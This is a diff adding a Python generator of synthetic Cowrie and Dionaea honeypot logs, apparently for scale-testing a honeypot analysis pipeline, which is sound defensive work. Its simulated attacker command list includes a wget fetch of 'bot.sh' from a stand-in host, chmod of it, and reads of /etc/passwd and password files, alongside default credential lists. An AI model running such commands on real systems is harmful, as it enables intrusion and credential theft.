@@ -0,0 +1,451 @@
+"""
+Synthetic honeypot data for scale testing.
+Writes a Cowrie JSON log and a Dionaea SQLite database in the layout of
+raw_data/, with the event mix of each attacker role in ATTACKER_IPS (as
+measured on the lab captures). Data is generated and written a chunk at a
+time from a seed, so the same arguments always give the same dataset and
+100M-event datasets need no more memory than small ones.
+"""
+
+import argparse
+import gzip
+import json
+import os
+import sqlite3
+import numpy as np
+import pandas as pd
+from config import ATTACKER_IPS, RAW_DATA_DIR, COWRIE_LOG, DIONAEA_DB
+
+
+# Share of all events per role, the part of them Cowrie sees, and how their sessions look:
+# SSH handshake probability, mean failed logins, login success probability,
+# mean commands after a login, download probability and Dionaea login probability
+ROLE_PROFILES = {
+    "recon": {"share": 0.11, "cowrie": 0.46, "handshake": 0.13, "failed": 0.0, "success": 0.18,
+              "commands": 1.3, "download": 0.0, "dionaea_login": 0.1},
+    "bruteforce": {"share": 0.13, "cowrie": 0.67, "handshake": 0.84, "failed": 0.02, "success": 0.8,
+                   "commands": 0.0, "download": 0.0, "dionaea_login": 0.5},
+    "exploit": {"share": 0.04, "cowrie": 0.24, "handshake": 0.85, "failed": 0.14, "success": 0.07,
+                "commands": 4.0, "download": 0.0, "dionaea_login": 0.65},
+    "postaccess": {"share": 0.4, "cowrie": 1.0, "handshake": 1.0, "failed": 0.4, "success": 0.6,
+                   "commands": 1.0, "download": 0.04, "dionaea_login": 0.0},
+    "multistage": {"share": 0.31, "cowrie": 0.71, "handshake": 0.73, "failed": 0.1, "success": 0.59,
+                   "commands": 0.6, "download": 0.04, "dionaea_login": 0.45},
+    "manual": {"share": 0.01, "cowrie": 0.88, "handshake": 1.0, "failed": 0.5, "success": 0.75,
+               "commands": 36.0, "download": 0.0, "dionaea_login": 0.4}
+}
+
+# Dionaea ports each role connects to, weighted by connection count
+ROLE_PORTS = {
+    "recon": {21: 36, 23: 196, 80: 101, 443: 66, 445: 206, 1433: 30, 1723: 62, 3306: 32},
+    "bruteforce": {21: 142, 445: 48, 3306: 416},
+    "exploit": {21: 54, 80: 88, 445: 191, 3306: 44},
+    "postaccess": {},
+    "multistage": {21: 168, 23: 130, 80: 116, 443: 66, 445: 162, 1433: 30, 1723: 62, 3306: 396},
+    "manual": {21: 1, 445: 2, 3306: 4}
+}
+
+# Dionaea protocol handler per port
+DIONAEA_PROTOCOLS = {
+    21: "ftpd", 23: "Blackhole", 80: "httpd", 443: "httpd", 445: "smbd",
+    1433: "mssqld", 1723: "pptpd", 3306: "mysqld"
+}
+
+# Ports whose connections may carry a login, and ports malware is downloaded over
+LOGIN_PORTS = [21, 1433, 3306]
+DOWNLOAD_PORTS = [80]
+
+# Probability that an exploit connection to a download port fetches malware
+DOWNLOAD_PROBABILITY = 0.45
+
+# Honeypot address and Cowrie's listening port
+HONEYPOT_IP = "172.16.0.20"
+COWRIE_PORT = 2222
+
+# Values sampled for the generated events
+SSH_CLIENTS = ["SSH-2.0-OpenSSH_10.2p1 Debian-3", "SSH-2.0-libssh_0.11.3", "SSH-2.0-Nmap-SSH2-Hostkey",
+               "SSH-2.0-OpenSSH_7.6p1 Ubuntu-4ubuntu0.3", "SSH-2.0-Ruby/Net::SSH_7.3.0 x86_64-linux-gnu"]
+USERNAMES = ["root", "admin", "administrator", "user", "guest", "pi", "oracle", "mysql", "test", "ftp"]
+PASSWORDS = ["password", "123456789", "12345", "admin", "root", "123456", "12345678", "qwerty", "test", "guest"]
+COMMANDS = ["ls", "arp -a", "cd ..", "cat /etc/hosts", "id", "ls -la", "whoami", "ifconfig", "netstat -an", "w",
+            "uname -a", "cat /etc/passwd", "ps aux", "find / -name 'password*' 2>/dev/null",
+            "wget http://203.0.113.50/bot.sh -O /tmp/bot.sh", "chmod +x /tmp/bot.sh", "crontab -l"]
+DOWNLOAD_FILES = ["/tmp/bot.sh", "/etc/crontab", "/tmp/.x/miner", "/root/.ssh/authorized_keys"]
+
+# Cowrie session phases in the order their events are logged
+COWRIE_PHASES = ["cowrie.session.connect", "cowrie.client.version", "cowrie.client.kex", "cowrie.login.failed",
+                 "cowrie.login.success", "cowrie.command.input", "cowrie.session.file_download",
+                 "cowrie.log.closed", "cowrie.session.closed"]
+
+# Mean seconds between events of a session
+EVENT_GAP_SECONDS = 2.0
+
+# Multiplier that scrambles session counters into unique, random-looking 48-bit session IDs
+SESSION_ID_MULTIPLIER = 0x9E3779B97F4B
+
+# Dionaea tables, in the schema a real sensor creates
+DIONAEA_SCHEMA = """
+CREATE TABLE connections (
+    connection INTEGER PRIMARY KEY,
+    connection_type TEXT,
+    connection_transport TEXT,
+    connection_protocol TEXT,
+    connection_timestamp INTEGER,
+    connection_root INTEGER,
+    connection_parent INTEGER,
+    local_host TEXT,
+    local_port INTEGER,
+    remote_host TEXT,
+    remote_hostname TEXT,
+    remote_port INTEGER
+);
+CREATE TABLE logins (
+    login INTEGER PRIMARY KEY,
+    connection INTEGER,
+    login_username TEXT,
+    login_password TEXT
+);
+CREATE TABLE downloads (
+    download INTEGER PRIMARY KEY,
+    connection INTEGER,
+    download_url TEXT,
+    download_md5_hash TEXT
+);
+"""
+
+# Events generated per chunk
+GENERATOR_CHUNK_SIZE = 200000
+
+
+def make_source_ips(ips):
+    """
+    Return the source IPs and their roles. The ATTACKER_IPS come first; any
+    further IPs (10.x.x.x, which the pipeline maps to "unknown") are spread
+    over the roles by their share of events and behave like them.
+    """
+    if ips < len(ATTACKER_IPS):
+        raise ValueError(f"Need at least {len(ATTACKER_IPS)} source IPs, one per attacker role")
+    
+    roles = list(ROLE_PROFILES)
+    src_ips = list(ATTACKER_IPS)
+    ip_roles = [roles.index(ATTACKER_IPS[ip]) for ip in src_ips]
+    
+    extra = ips - len(src_ips)
+    shares = np.array([ROLE_PROFILES[role]["share"] for role in roles])
+    bounds = np.cumsum(shares / shares.sum())
+    for i in range(1, extra + 1):
+        src_ips.append(f"10.{(i >> 16) & 255}.{(i >> 8) & 255}.{i & 255}")
+        ip_roles.append(int(np.searchsorted(bounds, (i - 0.5) / extra)))
+    
+    return np.array(src_ips), np.array(ip_roles)
+
+
+def _role_weights(honeypot):
+    """Return each role's share of the events of one honeypot ("cowrie" or "dionaea")."""
+    weights = np.array([p["share"] * (p["cowrie"] if honeypot == "cowrie" else 1 - p["cowrie"])
+                        for p in ROLE_PROFILES.values()])
+    return weights / weights.sum()
+
+
+def _session_weights():
+    """Return the share of Cowrie sessions per role that gives each role its share of Cowrie events."""
+    lengths = np.array([
+        2 + p["handshake"] * (2 + p["failed"] + p["success"] * (2 + p["commands"] + p["download"]))
+        for p in ROLE_PROFILES.values()
+    ])
+    weights = _role_weights("cowrie") / lengths
+    return weights / weights.sum()
+
+
+def _pick_ips(rng, roles, src_ips, ip_roles):
+    """Pick a source IP of the given role for each row."""
+    ips = np.empty(len(roles), dtype=object)
+    for role in np.unique(roles):
+        rows = np.flatnonzero(roles == role)
+        candidates = src_ips[ip_roles == role]
+        ips[rows] = candidates[rng.integers(0, len(candidates), len(rows))]
+    return ips
+
+
+def _cowrie_sessions(rng, sessions, src_ips, ip_roles):
+    """Generate the events of Cowrie sessions, in session order."""
+    weights = _session_weights()
+    roles = rng.choice(len(weights), sessions, p=weights)
+    profiles = list(ROLE_PROFILES.values())
+    param = {key: np.array([p[key] for p in profiles])[roles]
+             for key in ["handshake", "failed", "success", "commands", "download"]}
+    
+    # Events per phase of each session, in COWRIE_PHASES order
+    handshake = rng.random(sessions) < param["handshake"]
+    success = handshake & (rng.random(sessions) < param["success"])
+    lengths = np.column_stack([
+        np.ones(sessions, dtype=np.int64),
+        handshake,
+        handshake,
+        np.where(handshake, rng.poisson(param["failed"]), 0),
+        success,
+        np.where(success, rng.poisson(param["commands"]), 0),
+        success & (rng.random(sessions) < param["download"]),
+        success,
+        np.ones(sessions, dtype=np.int64)
+    ]).astype(np.int64)
+    
+    phases = np.repeat(np.tile(np.arange(len(COWRIE_PHASES)), sessions), lengths.ravel())
+    session = np.repeat(np.arange(sessions), lengths.sum(axis=1))
+    return phases, session, _pick_ips(rng, roles, src_ips, ip_roles)
+
+
+def _cowrie_line(phase, timestamp, src_ip, session, port, pick):
+    """Format one Cowrie event as a JSON log line; `pick` is a random number choosing its values."""
+    client = SSH_CLIENTS[pick % len(SSH_CLIENTS)]
+    user = USERNAMES[pick % len(USERNAMES)]
+    password = PASSWORDS[pick // len(USERNAMES) % len(PASSWORDS)]
+    command = COMMANDS[pick % len(COMMANDS)]
+    download = DOWNLOAD_FILES[pick % len(DOWNLOAD_FILES)]
+    common = f'"src_ip": "{src_ip}", "session": "{session}"'
+    
+    if phase == 0:
+        fields = (f'"src_ip": "{src_ip}", "src_port": {port}, "dst_port": {COWRIE_PORT}, "session": "{session}", '
+                  f'"message": "New connection: {src_ip}:{port} ({HONEYPOT_IP}:{COWRIE_PORT}) [session: {session}]"')
+    elif phase == 1:
+        fields = f'{common}, "message": "Remote SSH version: {client}"'
+    elif phase == 2:
+        fields = f'{common}, "message": "SSH client hassh fingerprint: {session:0>32}"'
+    elif phase in (3, 4):
+        result = "failed" if phase == 3 else "succeeded"
+        fields = (f'{common}, "username": "{user}", "password": "{password}", '
+                  f'"message": "login attempt [{user}/{password}] {result}"')
+    elif phase == 5:
+        fields = f'{common}, "input": {json.dumps(command)}, "message": {json.dumps("CMD: " + command)}'
+    elif phase == 6:
+        shasum = f"{session:0>64}"
+        fields = (f'{common}, "shasum": "{shasum}", "destfile": "{download}", '
+                  f'"message": "Saved redir contents with SHA-256 {shasum} to var/lib/cowrie/downloads/{shasum}"')
+    elif phase == 7:
+        fields = f'{common}, "message": "Closing TTY Log: var/lib/cowrie/tty/{session}"'
+    else:
+        fields = f'{common}, "message": "Connection lost"'
+    
+    return (f'{{"timestamp": "{timestamp}Z", "eventid": "{COWRIE_PHASES[phase]}", {fields}, '
+            f'"protocol": "ssh", "sensor": "cowrie"}}\n')
+
+
+def generate_cowrie_chunk(rng, events, start, end, first_session, src_ips, ip_roles):
+    """
+    Generate `events` Cowrie log lines for sessions starting between two
+    Unix times, in timestamp order. Returns an iterator over the lines and
+    the number of sessions used.
+    """
+    phases = []
+    sessions = []
+    ips = []
+    total = 0
+    drawn = 0
+    while total < events:
+        # Sessions average about four events; draw enough to cover the chunk
+        batch = max((events - total) // 3, 16)
+        batch_phases, batch_sessions, batch_ips = _cowrie_sessions(rng, batch, src_ips, ip_roles)
+        phases.append(batch_phases)
+        sessions.append(batch_sessions + drawn)
+        ips.append(batch_ips)
+        total += len(batch_phases)
+        drawn += batch
+    
+    phases = np.concatenate(phases)[:events]
+    session = np.concatenate(sessions)[:events]
+    ips = np.concatenate(ips)
+    used = int(session[-1]) + 1 if events else 0
+    
+    # Sessions start uniformly in the window; their events follow at random gaps
+    starts = np.sort(rng.uniform(start, end, used))
+    gaps = rng.exponential(EVENT_GAP_SECONDS, events)
+    gaps[np.r_[True, session[1:] != session[:-1]]] = 0
+    offsets = np.cumsum(gaps)
+    first_event = np.r_[0, np.flatnonzero(session[1:] != session[:-1]) + 1]
+    offsets -= np.repeat(offsets[first_event], np.diff(np.r_[first_event, events]))
+    times = starts[session] + offsets
+    
+    order = np.argsort(times, kind="stable")
+    phases = phases[order]
+    session = session[order]
+    stamps = np.datetime_as_string((times[order] * 1e6).astype("datetime64[us]"), unit="us")
+    ids = np.array([f"{((first_session + s) * SESSION_ID_MULTIPLIER) % (1 << 48):012x}" for s in range(used)])
+    ports = rng.integers(1024, 65536, events)
+    picks = rng.integers(0, 1 << 30, events)
+    
+    # Lines are formatted as they are written, so a chunk holds arrays rather than strings
+    lines = map(_cowrie_line, phases.tolist(), stamps, ips[session], ids[session], ports.tolist(), picks.tolist())
+    return lines, used
+
+
+def generate_dionaea_chunk(rng, connections, start, end, first_id, src_ips, ip_roles):
+    """
+    Generate `connections` Dionaea connections between two Unix times, with
+    the logins and downloads made over them. Returns rows for the
+    connections, logins and downloads tables.
+    """
+    weights = _role_weights("dionaea")
+    roles = rng.choice(len(weights), connections, p=weights)
+    ports = np.empty(connections, dtype=np.int64)
+    for role, name in enumerate(ROLE_PROFILES):
+        rows = np.flatnonzero(roles == role)
+        if len(rows):
+            role_ports = ROLE_PORTS[name]
+            port_weights = np.array(list(role_ports.values()), dtype=float)
+            ports[rows] = rng.choice(list(role_ports), len(rows), p=port_weights / port_weights.sum())
+    
+    ids = np.arange(first_id, first_id + connections)
+    times = np.sort(rng.uniform(start, end, connections))
+    ips = _pick_ips(rng, roles, src_ips, ip_roles)
+    remote_ports = rng.integers(1024, 65536, connections)
+    
+    connection_rows = [
+        (int(ids[i]), "accept", "tcp", DIONAEA_PROTOCOLS[ports[i]], float(times[i]), int(ids[i]), None,
+         HONEYPOT_IP, int(ports[i]), ips[i], None, int(remote_ports[i]))
+        for i in range(connections)
+    ]
+    
+    login_probability = np.array([p["dionaea_login"] for p in ROLE_PROFILES.values()])[roles]
+    logins = np.flatnonzero(np.isin(ports, LOGIN_PORTS) & (rng.random(connections) < login_probability))
+    users = rng.choice(USERNAMES + ["anonymous"], len(logins))
+    passwords = rng.choice(PASSWORDS, len(logins))
+    login_rows = [(int(ids[i]), str(user), str(password)) for i, user, password in zip(logins, users, passwords)]
+    
+    exploit = list(ROLE_PROFILES).index("exploit")
+    downloads = np.flatnonzero(np.isin(ports, DOWNLOAD_PORTS) & (roles == exploit)
+                               & (rng.random(connections) < DOWNLOAD_PROBABILITY))
+    hashes = rng.integers(0, 1 << 63, (len(downloads), 2))
+    download_rows = [(int(ids[i]), f"http://{HONEYPOT_IP}/payload", f"{h[0]:016x}{h[1]:016x}")
+                     for i, h in zip(downloads, hashes)]
+    
+    return connection_rows, login_rows, download_rows
+
+
+def _open_log(path):
+    """Open a Cowrie log for writing, gzip-compressed if it ends in .gz."""
+    if path.endswith(".gz"):
+        return gzip.open(path, 'wt')
+    return open(path, 'w')
+
+
+def _chunk_windows(total, chunksize, start, seconds):
+    """Split `total` events into chunks, each with an equal slice of the time span."""
+    chunks = max(1, -(-total // chunksize))
+    for k in range(chunks):
+        size = total // chunks + (1 if k < total % chunks else 0)
+        yield size, start + seconds * k / chunks, start + seconds * (k + 1) / chunks
+
+
+def generate_dataset(events, ips=len(ATTACKER_IPS), start="2026-02-06", days=1.0, seed=0,
+                     cowrie_log=COWRIE_LOG, dionaea_db=DIONAEA_DB, chunksize=GENERATOR_CHUNK_SIZE):
+    """
+    Write a synthetic Cowrie log and Dionaea database with `events` events
+    (Cowrie log lines plus Dionaea connections) from `ips` source IPs over
+    `days` days. Returns the number of lines and rows written.
+    """
+    rng = np.random.default_rng(seed)
+    src_ips, ip_roles = make_source_ips(ips)
+    first = pd.Timestamp(start, tz="UTC").timestamp()
+    seconds = days * 86400
+    
+    # Split the events between the honeypots by each role's share
+    profiles = ROLE_PROFILES.values()
+    cowrie_share = sum(p["share"] * p["cowrie"] for p in profiles) / sum(p["share"] for p in profiles)
+    cowrie_events = int(round(events * cowrie_share))
+    dionaea_events = events - cowrie_events
+    
+    for path in (cowrie_log, dionaea_db):
+        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
+    
+    counts = {"cowrie_events": 0, "sessions": 0, "connections": 0, "logins": 0, "downloads": 0}
+    
+    with _open_log(cowrie_log) as f:
+        for size, chunk_start, chunk_end in _chunk_windows(cowrie_events, chunksize, first, seconds):
+            lines, used = generate_cowrie_chunk(rng, size, chunk_start, chunk_end, counts["sessions"],
+                                                src_ips, ip_roles)
+            f.writelines(lines)
+            counts["cowrie_events"] += size
+            counts["sessions"] += used
+    
+    tmp_path = dionaea_db + ".tmp"
+    if os.path.exists(tmp_path):
+        os.remove(tmp_path)
+    
+    conn = sqlite3.connect(tmp_path)
+    try:
+        # The file is discarded on failure, so skip the rollback journal
+        conn.execute("PRAGMA journal_mode = OFF")
+        conn.execute("PRAGMA synchronous = OFF")
+        conn.executescript(DIONAEA_SCHEMA)
+        
+        for size, chunk_start, chunk_end in _chunk_windows(dionaea_events, chunksize, first, seconds):
+            connections, logins, downloads = generate_dionaea_chunk(
+                rng, size, chunk_start, chunk_end, counts["connections"] + 1, src_ips, ip_roles
+            )
+            conn.executemany("INSERT INTO connections VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)", connections)
+            conn.executemany("INSERT INTO logins (connection, login_username, login_password) VALUES (?, ?, ?)",
+                             logins)
+            conn.executemany("INSERT INTO downloads (connection, download_url, download_md5_hash) VALUES (?, ?, ?)",
+                             downloads)
+            conn.commit()
+            counts["connections"] += len(connections)
+            counts["logins"] += len(logins)
+            counts["downloads"] += len(downloads)
+    finally:
+        conn.close()
+    
+    os.replace(tmp_path, dionaea_db)
+    
+    return counts
+
+
+def main(events=1000000, ips=len(ATTACKER_IPS), start="2026-02-06", days=1.0, seed=0,
+         output=RAW_DATA_DIR, gzip_log=False, force=False):
+    """Generate a synthetic dataset in the raw_data layout under `output`."""
+    print("=" * 60)
+    print("Synthetic Honeypot Data Generator")
+    print("=" * 60)
+    
+    cowrie_log = os.path.join(output, os.path.relpath(COWRIE_LOG, RAW_DATA_DIR)) + (".gz" if gzip_log else "")
+    dionaea_db = os.path.join(output, os.path.relpath(DIONAEA_DB, RAW_DATA_DIR))
+    
+    # Never overwrite real captures by accident
+    existing = [path for path in (cowrie_log, dionaea_db) if os.path.exists(path)]
+    if existing and not force:
+        print(f"\n[ERROR] Output already exists: {', '.join(existing)} (pass --force to overwrite)")
+        return None
+    
+    print(f"\nGenerating {events:,} events from {ips:,} source IPs over {days:g} days (seed {seed})...")
+    counts = generate_dataset(events, ips=ips, start=start, days=days, seed=seed,
+                              cowrie_log=cowrie_log, dionaea_db=dionaea_db)
+    
+    print(f"  Cowrie: {counts['cowrie_events']:,} events in {counts['sessions']:,} sessions")
+    print(f"  Dionaea: {counts['connections']:,} connections, {counts['logins']:,} logins, "
+          f"{counts['downloads']:,} downloads")
+    print(f"Saved: {cowrie_log}")
+    print(f"Saved: {dionaea_db}")
+    
+    return counts
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description="Generate synthetic Cowrie and Dionaea data.")
+    parser.add_argument("--events", type=int, default=1000000,
+                        help="total events (Cowrie log lines plus Dionaea connections)")
+    parser.add_argument("--ips", type=int, default=len(ATTACKER_IPS),
+                        help="number of distinct source IPs (at least one per attacker role)")
+    parser.add_argument("--start", default="2026-02-06",
+                        help="start date of the generated events")
+    parser.add_argument("--days", type=float, default=1.0,
+                        help="time span of the generated events in days")
+    parser.add_argument("--seed", type=int, default=0,
+                        help="random seed; the same arguments always give the same dataset")
+    parser.add_argument("--output", default=RAW_DATA_DIR,
+                        help="directory to write cowrie/ and dionaea/ into (default: raw_data)")
+    parser.add_argument("--gzip", action="store_true",
+                        help="gzip-compress the Cowrie log")
+    parser.add_argument("--force", action="store_true",
+                        help="overwrite an existing log or database")
+    args = parser.parse_args()
+    main(events=args.events, ips=args.ips, start=args.start, days=args.days, seed=args.seed,
+         output=args.output, gzip_log=args.gzip, force=args.force)